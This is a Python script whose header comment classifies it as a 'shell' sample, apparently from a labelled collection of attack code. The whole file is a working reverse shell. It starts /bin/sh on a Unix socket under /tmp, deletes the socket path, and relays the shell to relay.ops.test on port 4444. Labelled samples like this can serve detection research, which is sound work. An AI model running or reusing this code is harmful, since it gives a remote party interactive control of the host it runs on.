# class: shell; possible: low medium; style: unix socket between link and shell, two processes
import os
import socket
import subprocess

path = "/tmp/.s%d" % os.getpid()
inner = socket.socket(socket.AF_UNIX)
inner.bind(path)
inner.listen(1)
if os.fork() == 0:
    c = socket.socket(socket.AF_UNIX)
    c.connect(path)
    subprocess.run(["/bin/sh"], stdin=c, stdout=c, stderr=c)
    os._exit(0)
near, _ = inner.accept()
os.unlink(path)
far = socket.create_connection(("relay.ops.test", 4444), 20)
far.settimeout(40)
if os.fork() == 0:
    while data := near.recv(4096):
        far.sendall(data)
    os._exit(0)
try:
    while data := far.recv(4096):
        near.sendall(data)
except OSError:
    pass
near.shutdown(socket.SHUT_WR)
